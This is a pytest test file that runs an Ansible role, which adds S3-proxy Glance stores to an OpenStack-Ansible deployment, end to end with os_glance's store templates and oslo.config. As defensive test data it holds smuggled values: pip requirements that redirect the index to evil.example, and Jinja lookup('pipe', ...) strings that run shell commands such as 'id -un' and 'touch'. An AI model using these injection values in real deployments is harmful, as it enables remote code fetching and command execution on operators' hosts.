"""OpenStack-Ansible (OSA) style, end to end on one machine: the role writes
user_variables_glance_s3proxy.yml and puts the wheel on the "repo server"; then
OSA's own consumers read them as an OSA deploy does.

- The user variables are loaded as `openstack-ansible` loads them: `-e @file`
  for each /etc/openstack_deploy/user_*.yml, in `ls` order (and in the reverse
  order, which is what `ls` gives under some locales).
- os_glance is not on PyPI, so its store handling is rebuilt here as a small
  role with os_glance's own defaults, vars and template lines for the stores
  (openstack-ansible-os_glance master, defaults/main.yml, vars/main.yml,
  templates/glance-api.conf.j2; OSA's inventory/group_vars/glance_all), and
  glance-api.conf is written with the real config_template action
  (ansible-config-template 2.1.1 from PyPI). Set OS_GLANCE_SRC to a checkout of
  openstack-ansible-os_glance to check that those lines still match it.
- python_venv_build's wheel build and venv install are its two pip commands, run
  with its arguments against the repo server's wheels directory, after the deploy
  host's directory is gone (the repo server and the glance hosts never see it).
- oslo.config 10.7.0 reads the glance-api.conf that config_template wrote.

ansible-config-template 2.1.1 does not load on ansible-core 2.19 (it patches
AnsibleDumper.__bases__, a function there), so the OSA side runs on ansible-core
2.17 (OSA 2024.2 and 2025.1 ship 2.17). The role itself runs on the project's
ansible-core (.cache/venv-tools, 2.19) and, in one test, on 2.17.

Run with .cache/venv-osa/bin/python -m pytest tests/functional/osa
(tests/requirements-osa.txt). GS3P_COLLECTIONS_PATH points the role runs at
another copy of the collection (used to show the tests fail on the old files).
"""

import json
import os
import re
import shutil
import subprocess
import sys
import textwrap

import pytest

from lab.constants import PIP_REQUIREMENT, WHEEL

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(HERE)))
CACHE = os.path.join(ROOT, '.cache')
OSA_VENV = os.path.dirname(os.path.dirname(sys.executable))
OSA_BIN = os.path.join(OSA_VENV, 'bin')
CONFIG_TEMPLATE = os.path.join(OSA_VENV, 'share', 'ansible', 'plugins', 'action', 'config_template.py')
TOOLS_BIN = os.path.join(CACHE, 'venv-tools', 'bin')

# A run that cannot use the real config_template proves nothing: fail, never skip.
assert os.path.exists(CONFIG_TEMPLATE), 'run with .cache/venv-osa/bin/python (ansible-config-template 2.1.1)'

from oslo_config import cfg as oslo_cfg  # noqa: E402 pylint: disable=wrong-import-position

# --- os_glance, as far as the stores go -------------------------------------------------------------------------

# openstack-ansible inventory/group_vars/glance_all/defaults.yml
OSA_GROUP_VARS = """\
glance_default_store: "{{ ((groups['swift_all'] is defined) and (groups['swift_all'] | length > 0)) | ternary('swift', 'file') }}"
"""

# os_glance defaults/main.yml (the store and pip variables) plus stand-ins for what the store sections use.
OS_GLANCE_DEFAULTS = """\
glance_default_store: file
glance_additional_stores:
  - name: http
    type: http
  - name: cinder
    type: cinder
glance_available_stores: "{{ _glance_available_stores }}"
glance_available_store_types: "{{ glance_available_stores | map(attribute='type') | list | unique }}"
glance_pip_packages:
  - "git+https://opendev.org/openstack/glance@master#egg=glance"
  - keystonemiddleware
  - "{{ ('s3' in glance_available_store_types) | ternary('boto3', '') }}"
glance_user_pip_packages: []
glance_glance_api_conf_overrides: {}
glance_system_user_home: /var/lib/glance
glance_images_local_directory: images
glance_etc_dir: /etc/glance
glance_swift_store_auth_insecure: false
glance_swift_store_region: RegionOne
glance_swift_store_container: glance_images
glance_swift_store_large_object_size: 5120
glance_swift_store_large_object_chunk_size: 200
glance_swift_store_endpoint_type: internalURL
glance_rbd_store_pool: images
glance_rbd_store_user: glance
glance_rbd_store_chunk_size: 8
keystone_service_adminurl: http://keystone:5000
glance_service_user_name: glance
glance_service_password: service-password
glance_service_project_name: service
glance_service_user_domain_id: default
glance_service_project_domain_id: default
"""

# os_glance vars/main.yml
OS_GLANCE_VARS = """\
_glance_available_stores: |-
  {% set stores = [] %}
  {% for store in ([glance_default_store] + glance_additional_stores) | unique %}
  {%   if store is string %}
  {%     set _ = stores.append({'name': store, 'type': store}) %}
  {%   else %}
  {%     set _ = stores.append(store) %}
  {%   endif %}
  {% endfor %}
  {{ stores }}
"""

# os_glance templates/glance-api.conf.j2: the enabled_backends line, and [glance_store] up to [profiler].
OS_GLANCE_TEMPLATE_DEFAULT = """\
enabled_backends = {% for backend in glance_available_stores %}{{ backend['name'] }}:{{ backend['type'] }}{% if not loop.last %},{% endif %}{% endfor %}
"""
OS_GLANCE_TEMPLATE_STORES = """\
[glance_store]
default_backend = {{ (glance_default_store is string) | ternary(glance_default_store, glance_default_store['name']) }}

{% for backend in glance_available_stores %}
{%   if backend['name'] == 'file' and backend['type'] == 'file' and 'config' not in backend %}
[file]
filesystem_store_datadir = {{ glance_system_user_home }}/{{ glance_images_local_directory }}/

{%   elif backend['name'] == 'swift' and backend['type'] == 'swift' and 'config' not in backend %}
[swift]
swift_store_config_file = {{ glance_etc_dir }}/glance-swift-store.conf
default_swift_reference = swift1
swift_store_auth_insecure = {{ glance_swift_store_auth_insecure | bool }}
swift_store_region = {{ glance_swift_store_region }}
swift_store_container = {{ glance_swift_store_container }}
swift_store_create_container_on_put = True
swift_store_large_object_size = {{ glance_swift_store_large_object_size }}
swift_store_large_object_chunk_size = {{ glance_swift_store_large_object_chunk_size }}
swift_store_retry_get_count = 0
swift_store_endpoint_type = {{ glance_swift_store_endpoint_type }}

{%   elif backend['name'] == 'rbd' and backend['type'] == 'rbd' and 'config' not in backend %}
[rbd]
rbd_store_pool = {{ glance_rbd_store_pool }}
rbd_store_user = {{ glance_rbd_store_user }}
rbd_store_ceph_conf = /etc/ceph/ceph.conf
rbd_store_chunk_size = {{ glance_rbd_store_chunk_size }}

{%   elif backend['name'] == 'cinder' and backend['type'] == 'cinder' and 'config' not in backend %}
[cinder]
cinder_catalog_info = block-storage:cinder:internalURL
cinder_store_auth_address = {{ keystone_service_adminurl }}
cinder_store_user_name = {{ glance_service_user_name }}
cinder_store_password = {{ glance_service_password }}
cinder_store_project_name = {{ glance_service_project_name }}
cinder_store_user_domain_name = {{ glance_service_user_domain_id }}
cinder_store_project_domain_name = {{ glance_service_project_domain_id }}

{%   else %}
[{{ backend['name'] }}]
{%     for key, value in backend.get('config', {}).items() %}
{{ key }} = {{ value }}
{%     endfor %}

{%   endif  %}
{% endfor %}
"""

# os_glance tasks: glance-api.conf through config_template; the venv packages as python_venv_build gets them
# (venv_pip_packages: glance_pip_packages | union(glance_user_pip_packages); its _venv_pip_packages).
OS_GLANCE_TASKS = """\
- name: What os_glance and python_venv_build see
  ansible.builtin.copy:
    content: "{{ {'stores': glance_available_stores, 'default': glance_default_store,
                  'pip': (glance_pip_packages | union(glance_user_pip_packages)) | sort | select | list} | to_json }}"
    dest: "{{ osa_out }}/seen.json"
    mode: "0600"

- name: Write glance-api.conf as os_glance does
  config_template:
    src: glance-api.conf.j2
    dest: "{{ osa_out }}/glance-api.conf"
    config_overrides: "{{ glance_glance_api_conf_overrides }}"
    config_type: ini
    mode: "0600"
"""

OSA_PLAY = """\
- name: Install glance services (the store part of openstack.osa.glance)
  hosts: glance_all
  gather_facts: false
  roles:
    - role: os_glance
"""

ROLE_PLAY = """\
- name: Apply glancestore.s3proxy.glance_s3_proxy on the deploy host
  hosts: deploy
  gather_facts: false
  roles:
    - role: glancestore.s3proxy.glance_s3_proxy
"""


def os_glance_template():
    """The store lines of os_glance's glance-api.conf.j2: from OS_GLANCE_SRC when set, else the copy above."""
    src = os.environ.get('OS_GLANCE_SRC')
    if not src:
        return '[DEFAULT]\n' + OS_GLANCE_TEMPLATE_DEFAULT + '\n' + OS_GLANCE_TEMPLATE_STORES
    with open(os.path.join(src, 'templates', 'glance-api.conf.j2')) as f:
        text = f.read()
    default = re.search(r'^enabled_backends = .*\n', text, re.M).group(0)
    stores = text[text.index('[glance_store]\n'):text.index('[profiler]\n')]
    return '[DEFAULT]\n' + default + '\n' + stores


# --- helpers ----------------------------------------------------------------------------------------------------

def unsafe(text):
    return '!unsafe ' + json.dumps(text)  # a JSON string is a YAML double-quoted scalar


def yaml_flow(value):
    """``value`` as a YAML flow node: strings !unsafe (at any depth), mappings and lists as flow collections."""
    if isinstance(value, str):
        return unsafe(value)
    if isinstance(value, dict):
        return '{%s}' % ', '.join('%s: %s' % (k, yaml_flow(v)) for k, v in value.items())
    if isinstance(value, (list, tuple)):
        return '[%s]' % ', '.join(yaml_flow(v) for v in value)
    return json.dumps(value)


def env_for(home, extra=None):
    run_env = {k: v for k, v in os.environ.items() if not k.startswith('ANSIBLE_') and 'proxy' not in k.lower()}
    run_env.update({
        'ANSIBLE_COLLECTIONS_PATH': os.environ.get('GS3P_COLLECTIONS_PATH') or os.path.join(CACHE, 'collections'),
        'ANSIBLE_HOME': str(home),
        'ANSIBLE_LOCAL_TEMP': str(home / 'tmp'),
        'ANSIBLE_REMOTE_TEMP': str(home / 'remote-tmp'),
        'ANSIBLE_NOCOLOR': '1',
        'ANSIBLE_FORCE_COLOR': '0',
        'ANSIBLE_RETRY_FILES_ENABLED': '0',
        'ANSIBLE_HOST_KEY_CHECKING': '0',
    })
    run_env.update(extra or {})
    return run_env


def run(cmd, env, timeout=300):
    return subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, universal_newlines=True, env=env,
                          timeout=timeout, check=False)


class Site:
    """A deploy host (/etc/openstack_deploy under tmp), a repo server's wheels directory, and glance hosts."""

    def __init__(self, tmp_path):
        self.tmp = tmp_path
        self.config_dir = tmp_path / 'deploy' / 'etc' / 'openstack_deploy'
        self.config_dir.mkdir(parents=True)
        self.repo_wheels = tmp_path / 'repo' / 'var' / 'www' / 'repo' / 'wheels'
        self.osa = tmp_path / 'osa'
        self.home = tmp_path / 'ansible-home'
        self.role_vars = {}
        self.role_runs = 0

    @property
    def own_file(self):
        return self.config_dir / 'user_variables_glance_s3proxy.yml'

    def operator_file(self, name, text):
        path = self.config_dir / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text))
        return path

    # the role ------------------------------------------------------------------------------------------------

    def write_role_vars(self, stores, proxy_password='pw', other_backends=(), extra=None, proxy=None,
                        name='role-vars.yml'):
        """The role's variables as an operator keeps them: secrets !unsafe (or vaulted).

        ``proxy``: the role-wide proxy's host, port and user (default proxy.example.com:3128, glance-s3).
        ``name``: the file under tmp (run_role reads role-vars.yml). Returns its path.
        """
        proxy = dict(proxy or {'host': 'proxy.example.com', 'port': 3128, 'user': 'glance-s3'})
        proxy = dict({'enabled': True}, **proxy)
        proxy['password'] = proxy_password
        lines = ['glance_s3_proxy_deployment_style: openstack_ansible',
                 'glance_s3_proxy_preflight: false',
                 'glance_s3_proxy_restart_method: none',
                 'glance_s3_proxy_osa_config_dir: %s' % json.dumps(str(self.config_dir)),
                 'glance_s3_proxy_osa_repo_wheel_dir: %s' % json.dumps(str(self.repo_wheels)),
                 # the deploy-host wheel directory of the role before 1.2.1 (kept in tmp when run against it)
                 'glance_s3_proxy_osa_wheel_dir: %s' % json.dumps(str(self.config_dir / 'glance-store-s3proxy')),
                 'glance_s3_proxy_other_backends: %s' % json.dumps(list(other_backends)),
                 'glance_s3_proxy_proxy: %s' % yaml_flow(proxy),
                 'glance_s3_proxy_stores:']
        for store in stores:
            lines.append('  - %s' % yaml_flow(store))
        for key, value in (extra or {}).items():
            lines.append('%s: %s' % (key, json.dumps(value)))
        path = self.tmp / name
        path.write_text('\n'.join(lines) + '\n')
        return path

    def run_role(self, check=False, bin_dir=TOOLS_BIN, repo_hosts=('repo1',)):
        """ansible-playbook against the deploy host (local), with OSA's repo_all group when ``repo_hosts``."""
        self.role_runs += 1
        python = os.path.join(bin_dir, 'python')
        inventory = self.tmp / ('role-hosts-%d.ini' % self.role_runs)
        text = '[deploy]\ndeploy1 ansible_connection=local ansible_python_interpreter=%s\n' % python
        if repo_hosts:
            text += '[repo_all]\n' + ''.join('%s ansible_connection=local ansible_python_interpreter=%s\n'
                                             % (h, python) for h in repo_hosts)
        inventory.write_text(text)
        play = self.tmp / 'role-play.yml'
        play.write_text(ROLE_PLAY)
        cmd = [os.path.join(bin_dir, 'ansible-playbook'), '-i', str(inventory),
               '-e', '@%s' % (self.tmp / 'role-vars.yml'), str(play)]
        if check:
            cmd.append('--check')
        return run(cmd, env_for(self.home))

    # OpenStack-Ansible ---------------------------------------------------------------------------------------

    def user_files(self, order='C'):
        """/etc/openstack_deploy/user_*.yml as `ls` lists them (C locale), or reversed."""
        files = sorted(p.name for p in self.config_dir.glob('user_*.yml'))
        return [self.config_dir / f for f in (files if order == 'C' else reversed(files))]

    def run_osa(self, order='C', swift=False):
        """openstack-ansible: -e @file per user_*.yml; os_glance's stores; config_template writes glance-api.conf."""
        shutil.rmtree(self.osa, ignore_errors=True)
        role = self.osa / 'roles' / 'os_glance'
        for sub, name, text in (('defaults', 'main.yml', OS_GLANCE_DEFAULTS), ('vars', 'main.yml', OS_GLANCE_VARS),
                                ('tasks', 'main.yml', OS_GLANCE_TASKS),
                                ('templates', 'glance-api.conf.j2', os_glance_template())):
            (role / sub).mkdir(parents=True, exist_ok=True)
            (role / sub / name).write_text(text)
        inventory = self.osa / 'inventory'
        (inventory / 'group_vars').mkdir(parents=True)
        (inventory / 'group_vars' / 'glance_all.yml').write_text(OSA_GROUP_VARS)
        (inventory / 'hosts.ini').write_text(
            '[glance_all]\nglance1 ansible_connection=local ansible_python_interpreter=%s\n'
            '[swift_all]\n%s\n' % (os.path.join(OSA_BIN, 'python'), 'swift1 ansible_connection=local' if swift else ''))
        (self.osa / 'play.yml').write_text(OSA_PLAY)
        cmd = [os.path.join(OSA_BIN, 'ansible-playbook'), '-i', str(inventory / 'hosts.ini')]
        for path in self.user_files(order):
            cmd += ['-e', '@%s' % path]
        cmd += ['-e', 'osa_out=%s' % self.osa, str(self.osa / 'play.yml')]
        proc = run(cmd, env_for(self.home, {'ANSIBLE_ACTION_PLUGINS': os.path.dirname(CONFIG_TEMPLATE),
                                            'ANSIBLE_ROLES_PATH': str(self.osa / 'roles')}))
        assert proc.returncode == 0, proc.stdout
        seen = json.loads((self.osa / 'seen.json').read_text())
        return seen, self.osa / 'glance-api.conf'


def oslo_read(path, options):
    """What oslo.config reads: enabled_backends, default_backend and the given (section, key) options."""
    conf = oslo_cfg.ConfigOpts()
    conf.register_opt(oslo_cfg.ListOpt('enabled_backends'))
    conf.register_opt(oslo_cfg.StrOpt('default_backend'), group='glance_store')
    for section, key in options:
        conf.register_opt(oslo_cfg.StrOpt(key), group=section)
    conf(args=[], project='glance', default_config_files=[str(path)], default_config_dirs=[])
    out = {'enabled_backends': conf.enabled_backends, 'default_backend': conf.glance_store.default_backend}
    out.update(((section, key), getattr(getattr(conf, section), key)) for section, key in options)
    return out


def conf_sections(path):
    return re.findall(r'^\[([^\]]+)\]$', path.read_text(), re.M)


FAST = {'name': 'fast', 'endpoint': 'https://s3.example.com', 'bucket': 'glance', 'access_key': 'AK1',
        'secret_key': 'SK1', 'default': True}
SECOND = {'name': 'second', 'endpoint': 'http://s3-b.example.com:8333', 'bucket': 'glance-b', 'access_key': 'AK2',
          'secret_key': 'SK2'}


@pytest.fixture
def site(tmp_path):
    return Site(tmp_path)


# --- O1: the extension reaches the glance venv through python_venv_build ----------------------------------------

def venv_build(site, requirements):
    """python_venv_build's wheel build on the repo server, then its install on a glance host.

    Its commands, less the hosts: `pip wheel --requirement R --find-links WHEELS/ --wheel-dir /tmp/glance/`,
    the built wheels moved into WHEELS and named in a constraints file, then on the glance host
    `pip install --constraint C --find-links http://repo/.../wheels/ PACKAGES` (here the same directory,
    --no-index and --no-deps so only the extension is fetched, from nowhere but the wheels directory).
    """
    req = site.tmp / 'glance-requirements.txt'
    req.write_text('# Managed with python_venv_build role\n' + ''.join('%s\n' % r for r in requirements))
    built = site.tmp / 'build-glance'
    # only the wheels directory: no pip configuration of this machine (find-links, indexes, constraints)
    pip_env = {k: v for k, v in env_for(site.home).items() if not k.startswith('PIP_')}
    pip_env['PIP_CONFIG_FILE'] = os.devnull
    pip = [os.path.join(OSA_BIN, 'python'), '-m', 'pip', '--disable-pip-version-check', '--no-cache-dir']
    proc = run(pip + ['wheel', '--requirement', str(req), '--find-links', '%s/' % site.repo_wheels,
                      '--wheel-dir', '%s/' % built, '--no-index', '--no-deps', '--no-build-isolation'],
               pip_env)
    if proc.returncode != 0:
        return proc
    constraints = site.tmp / 'glance-constraints.txt'
    lines = []
    for name in sorted(os.listdir(built)):
        shutil.move(str(built / name), str(site.repo_wheels / name))
        lines.append('%s==%s' % (name.split('-')[0].lower(), '.post'.join(name.split('-')[1].split('_')).lower()))
    constraints.write_text('# Managed with python_venv_build role\n' + ''.join('%s\n' % x for x in lines))
    # python_venv_install: a 'name @ url' requirement is installed by its name once the wheels are built
    install = [r.split('@')[0].strip() if re.search(r'.*@\s?\w*://', r) else r for r in requirements]
    return run(pip + ['install', '--constraint', str(constraints), '--find-links', '%s/' % site.repo_wheels,
                      '--no-index', '--no-deps', '--target', str(site.tmp / 'glance-venv-site')] + install,
               pip_env)


def test_default_requirement_builds_and_installs_from_the_repo_servers_wheels(site):
    site.write_role_vars([FAST])
    proc = site.run_role()
    assert proc.returncode == 0, proc.stdout
    seen, _conf = site.run_osa()
    ours = [p for p in seen['pip'] if 's3proxy' in p]
    assert 'boto3' in seen['pip']  # os_glance adds it for an s3 store
    # The repo server and the glance hosts see neither the deploy host's files nor its directories.
    shutil.rmtree(site.tmp / 'deploy')
    built = venv_build(site, ours)
    assert built.returncode == 0, built.stdout
    assert (site.tmp / 'glance-venv-site' / 'glance_store_s3proxy.pth').is_file()
    assert ours == [PIP_REQUIREMENT]
    assert (site.repo_wheels / WHEEL).is_file()


def test_default_wheels_directory_is_python_venv_builds(site):
    """With no glance_s3_proxy_osa_repo_wheel_dir, the wheel goes where python_venv_build builds glance's wheels."""
    site.write_role_vars([FAST], extra={'openstack_release': '31.1.0'})
    text = (site.tmp / 'role-vars.yml').read_text()
    (site.tmp / 'role-vars.yml').write_text(re.sub(r'^glance_s3_proxy_osa_repo_wheel_dir: .*\n', '', text, flags=re.M))
    proc = site.run_role(check=True)
    assert proc.returncode == 0, proc.stdout
    facts = json.loads(run([os.path.join(TOOLS_BIN, 'python'), '-c', textwrap.dedent("""\
        import json, platform
        d = {}
        for line in open('/etc/os-release'):
            k, _, v = line.strip().partition('=')
            d[k] = v.strip('"')
        print(json.dumps([d.get('ID'), d.get('VERSION_ID'), platform.machine()]))""")], os.environ).stdout)
    # ansible's distribution name for /etc/os-release ID (debian, ubuntu, ...) and its version rules
    distro, version, arch = facts
    version = '.'.join(version.split('.')[:2]) if distro == 'ubuntu' else version.split('.')[0]
    expected = '/var/www/repo/os-releases/31.1.0/%s-%s-%s/wheels' % (distro, version, arch.lower())
    assert 'repo1:%s' % expected in proc.stdout, proc.stdout


def test_no_repo_server_and_no_requirement_stops(site):
    site.write_role_vars([FAST])
    proc = site.run_role(repo_hosts=())
    assert proc.returncode != 0
    assert 'No repo server to put the extension\'s wheel on' in proc.stdout, proc.stdout
    assert 'glance_s3_proxy_osa_pip_package' in proc.stdout
    assert not site.own_file.exists()


def test_url_requirement_is_used_as_given_and_no_wheel_is_copied(site):
    url = 'glance-store-s3proxy @ https://mirror.example.com/wheels/%s' % WHEEL
    site.write_role_vars([FAST], extra={'glance_s3_proxy_osa_pip_package': url})
    proc = site.run_role(repo_hosts=())
    assert proc.returncode == 0, proc.stdout
    assert not site.repo_wheels.exists()
    seen, _conf = site.run_osa()
    assert [p for p in seen['pip'] if 's3proxy' in p] == [url]


BAD_PIP_PACKAGES = {
    'another package': 'requests',
    'pip option': PIP_REQUIREMENT + ' --index-url http://evil.example/simple',
    'second line': PIP_REQUIREMENT + '\n--extra-index-url http://evil.example/simple',
    'credentials': 'glance-store-s3proxy @ https://user:S3cretPipPw@mirror.example.com/wheels/%s' % WHEEL,
    'jinja': "glance-store-s3proxy @ https://evil.example/{{ lookup('pipe', 'id -un') }}.whl",
    'marker': PIP_REQUIREMENT + '; python_version > "3"',
}


@pytest.mark.parametrize('case', sorted(BAD_PIP_PACKAGES))
def test_a_pip_requirement_pip_would_read_otherwise_stops_the_role(site, case):
    """O1: os_glance hands the value to pip as one requirement line on the repo servers and the glance hosts."""
    path = site.write_role_vars([FAST])
    with open(str(path), 'a') as f:  # !unsafe, as an operator keeps a literal value (else Ansible templates it)
        f.write('glance_s3_proxy_osa_pip_package: !unsafe %s\n' % json.dumps(BAD_PIP_PACKAGES[case]))
    proc = site.run_role(repo_hosts=())
    assert proc.returncode != 0
    assert 'glance_s3_proxy_osa_pip_package must be' in proc.stdout and 'nothing was changed' in proc.stdout, \
        proc.stdout
    assert 'S3cretPipPw' not in proc.stdout and 'evil.example' not in proc.stdout
    assert not site.own_file.exists()


# --- O2: OpenStack-Ansible's stores stay ------------------------------------------------------------------------

@pytest.mark.parametrize('swift', [False, True], ids=['file', 'swift'])
def test_osa_default_stores_stay_beside_the_s3_stores(site, swift):
    site.write_role_vars([FAST, SECOND])
    proc = site.run_role()
    assert proc.returncode == 0, proc.stdout
    seen, conf = site.run_osa(swift=swift)
    kept = 'swift' if swift else 'file'
    assert [(s['name'], s['type']) for s in seen['stores']] == [
        ('fast', 's3'), (kept, kept), ('http', 'http'), ('cinder', 'cinder'), ('second', 's3')]
    read = oslo_read(conf, [('fast', 's3_store_host'), ('second', 's3_store_bucket')])
    assert read['enabled_backends'] == ['fast:s3', '%s:%s' % (kept, kept), 'http:http', 'cinder:cinder', 'second:s3']
    assert read['default_backend'] == 'fast'
    assert read[('fast', 's3_store_host')] == 'https://s3.example.com'
    assert read[('second', 's3_store_bucket')] == 'glance-b'
    text = conf.read_text()
    # os_glance writes its own sections for its stores (they carry no config of ours)
    if swift:
        assert 'swift_store_config_file = /etc/glance/glance-swift-store.conf' in text
    else:
        assert 'filesystem_store_datadir = /var/lib/glance/images/' in text
    assert 'cinder_store_auth_address = http://keystone:5000' in text


def test_other_backends_are_added_to_osa_stores(site):
    site.write_role_vars([FAST], other_backends=['rbd:rbd', 'nfs:file', 'http:http', 'file:file'])
    proc = site.run_role()
    assert proc.returncode == 0, proc.stdout
    seen, conf = site.run_osa()
    assert [(s['name'], s['type']) for s in seen['stores']] == [
        ('fast', 's3'), ('file', 'file'), ('http', 'http'), ('cinder', 'cinder'), ('rbd', 'rbd'), ('nfs', 'file')]
    assert oslo_read(conf, [])['enabled_backends'] == [
        'fast:s3', 'file:file', 'http:http', 'cinder:cinder', 'rbd:rbd', 'nfs:file']
    assert 'rbd_store_pool = images' in conf.read_text()


def test_other_backend_named_like_an_osa_store_of_another_type_stops(site):
    site.write_role_vars([FAST], other_backends=['cinder:file'])
    proc = site.run_role()
    assert proc.returncode != 0
    assert 'glance_s3_proxy_other_backends[0] names cinder with type file' in proc.stdout, proc.stdout
    assert not site.own_file.exists()


def test_legacy_mode_stops_the_role_before_any_change(site):
    """os_glance always writes enabled_backends, so Glance would ignore legacy mode's [glance_store] options."""
    site.write_role_vars([FAST], extra={'glance_s3_proxy_store_mode': 'legacy'})
    proc = site.run_role()
    assert proc.returncode != 0
    assert 'glance_s3_proxy_store_mode is legacy while glance_s3_proxy_deployment_style is openstack_ansible' \
        in proc.stdout and 'nothing was changed' in proc.stdout, proc.stdout
    assert not site.own_file.exists()


# --- O3: never replace the operator's own variables -------------------------------------------------------------

# case: (file under /etc/openstack_deploy, its text, the variable it sets)
OPERATOR_DEFINITIONS = {
    'user_variables.yml': ('user_variables.yml', 'glance_additional_stores:\n  - name: rbd\n    type: rbd\n',
                           'glance_additional_stores'),
    'user_glance.yml': ('user_glance.yml', 'debug: false\n"glance_default_store": rbd\n', 'glance_default_store'),
    'pip': ('user_variables.yml', 'glance_user_pip_packages:\n  - python-glanceclient\n', 'glance_user_pip_packages'),
    'group_vars': ('group_vars/glance_all/stores.yml', 'glance_additional_stores: []\n', 'glance_additional_stores'),
    'host_vars': ('host_vars/infra1.yml', "'glance_default_store' : rbd\n", 'glance_default_store'),
    'openstack_user_config': ('openstack_user_config.yml', 'global_overrides:\n  glance_default_store: rbd\n',
                              'glance_default_store'),
    'conf.d': ('conf.d/glance.yml', 'glance_hosts:\n  infra1:\n    container_vars:\n'
                                    '      glance_user_pip_packages: [foo]\n', 'glance_user_pip_packages'),
    # osa_toolkit reads conf.d recursively, .yml and .yaml
    'conf.d yaml': ('conf.d/extra/glance.yaml', 'global_overrides:\n  glance_default_store: rbd\n',
                    'glance_default_store'),
    'group_vars json': ('group_vars/glance_all.json', '{\n  "glance_additional_stores": []\n}\n',
                        'glance_additional_stores'),
    'flow mapping': ('group_vars/glance_all/main.yml', '{debug: false, glance_additional_stores: []}\n',
                     'glance_additional_stores'),
}


@pytest.mark.parametrize('case', sorted(OPERATOR_DEFINITIONS))
def test_a_variable_the_operator_sets_stops_the_role(site, case):
    relpath, text, variable = OPERATOR_DEFINITIONS[case]
    path = site.operator_file(relpath, text)
    site.write_role_vars([FAST])
    proc = site.run_role()
    assert proc.returncode != 0
    assert 'nothing was changed' in proc.stdout
    assert '%s sets %s' % (path, variable) in proc.stdout, proc.stdout
    assert 'glance_s3proxy_osa_' in proc.stdout  # the variable to refer to
    assert not site.own_file.exists()
    assert not site.repo_wheels.exists()


def test_commented_or_nested_mentions_do_not_stop_the_role(site):
    site.operator_file('user_variables.yml', """\
        # glance_default_store: file
        some_mapping:
          glance_additional_stores: not-a-variable
        """)
    site.write_role_vars([FAST])
    proc = site.run_role()
    assert proc.returncode == 0, proc.stdout


@pytest.mark.parametrize('order', ['C', 'reverse'])
def test_operator_lists_that_refer_to_the_roles_variables_are_kept(site, order):
    site.operator_file('user_variables.yml', """\
        glance_default_store: "{{ glance_s3proxy_osa_default_store }}"
        glance_additional_stores: "{{ [{'name': 'rbd', 'type': 'rbd'}, 'file'] + glance_s3proxy_osa_additional_stores }}"
        glance_user_pip_packages: "{{ ['python-ironicclient'] + glance_s3proxy_osa_pip_packages }}"
        """)
    site.write_role_vars([FAST, SECOND])
    proc = site.run_role()
    assert proc.returncode == 0, proc.stdout
    written = site.own_file.read_text()
    for variable in ('glance_default_store', 'glance_additional_stores', 'glance_user_pip_packages'):
        assert not re.search(r'^%s:' % variable, written, re.M), variable
    seen, conf = site.run_osa(order=order)
    assert [(s['name'], s['type']) for s in seen['stores']] == [
        ('fast', 's3'), ('rbd', 'rbd'), ('file', 'file'), ('second', 's3')]
    assert 'python-ironicclient' in seen['pip'] and PIP_REQUIREMENT in seen['pip']
    read = oslo_read(conf, [('second', 's3_store_secret_key')])
    assert read['default_backend'] == 'fast' and read[('second', 's3_store_secret_key')] == 'SK2'


def test_the_previous_default_store_stays_when_the_operator_adds_the_roles_list(site):
    """O2: the operator keeps their own list and adds the role's: OpenStack-Ansible's previous default (file) is
    in the role's list, so it stays beside the S3 stores."""
    site.operator_file('user_variables.yml', """\
        glance_additional_stores: "{{ [{'name': 'rbd', 'type': 'rbd'}] + glance_s3proxy_osa_additional_stores }}"
        """)
    site.write_role_vars([FAST, SECOND])
    proc = site.run_role()
    assert proc.returncode == 0, proc.stdout
    seen, _conf = site.run_osa()
    assert [(s['name'], s['type']) for s in seen['stores']] == [
        ('fast', 's3'), ('rbd', 'rbd'), ('file', 'file'), ('second', 's3')]


def test_a_mention_of_the_roles_variable_in_another_file_is_no_reference(site):
    """O3: only a definition that names the role's variable in its own file adds to it."""
    site.operator_file('user_variables.yml', 'glance_additional_stores: [{name: rbd, type: rbd}]\n')
    site.operator_file('user_notes.yml', '# later: glance_s3proxy_osa_additional_stores\nnotes: true\n')
    site.write_role_vars([FAST, SECOND])
    proc = site.run_role()
    assert proc.returncode != 0
    assert 'sets glance_additional_stores' in proc.stdout, proc.stdout
    assert not site.own_file.exists()


def test_vaulted_variable_files_are_named(site):
    site.operator_file('user_secrets.yml', '$ANSIBLE_VAULT;1.1;AES256\n3331\n')
    site.write_role_vars([FAST])
    proc = site.run_role()
    assert proc.returncode == 0, proc.stdout
    assert '%s: encrypted with ansible-vault' % (site.config_dir / 'user_secrets.yml') in proc.stdout


# --- O4: every value, description and weight reaches glance-api.conf as it is -----------------------------------

def secrets(marker):
    return {
        ('fast', 's3_store_secret_key'): "SK{{ lookup('pipe', 'touch %s') }}$HOME" % marker,
        ('fast', 's3_store_proxy_password'): 'p{#w$d%\'"x{{ 7 * 7 }}',
        ('fast', 'store_description'): 'Fast {{ "S3" }}; behind the proxy',
        ('second', 's3_store_secret_key'): '}}a%}b#}c{{d{%e${x}$$',
        ('second', 'store_description'): 'Second store: a;b',
    }


@pytest.mark.parametrize('role_bin', ['2.19', '2.17'])
def test_values_descriptions_and_weights_reach_oslo_config_exactly(site, role_bin):
    assert os.path.exists(os.path.join(TOOLS_BIN, 'ansible-playbook')), 'no .cache/venv-tools: run scripts/bootstrap.sh'
    marker = site.tmp / 'pwned'
    values = secrets(marker)
    fast = dict(FAST, secret_key=values[('fast', 's3_store_secret_key')],
                description=values[('fast', 'store_description')], weight=100)
    second = dict(SECOND, secret_key=values[('second', 's3_store_secret_key')],
                  description=values[('second', 'store_description')], weight=5)
    site.write_role_vars([fast, second], proxy_password=values[('fast', 's3_store_proxy_password')])
    proc = site.run_role(bin_dir=TOOLS_BIN if role_bin == '2.19' else OSA_BIN)
    assert proc.returncode == 0, proc.stdout
    _seen, conf = site.run_osa()
    assert not marker.exists()
    read = oslo_read(conf, list(values) + [('fast', 'weight'), ('second', 'weight')])
    for key, value in values.items():
        assert read[key] == value, key
    assert read[('fast', 'weight')] == '100' and read[('second', 'weight')] == '5'
    assert not marker.exists()


@pytest.mark.parametrize('value', ['secret ;comment', 'secret\u00a0;x'])
def test_a_semicolon_after_whitespace_stops_the_role(site, value):
    site.write_role_vars([dict(FAST, description=value)])
    proc = site.run_role()
    assert proc.returncode != 0
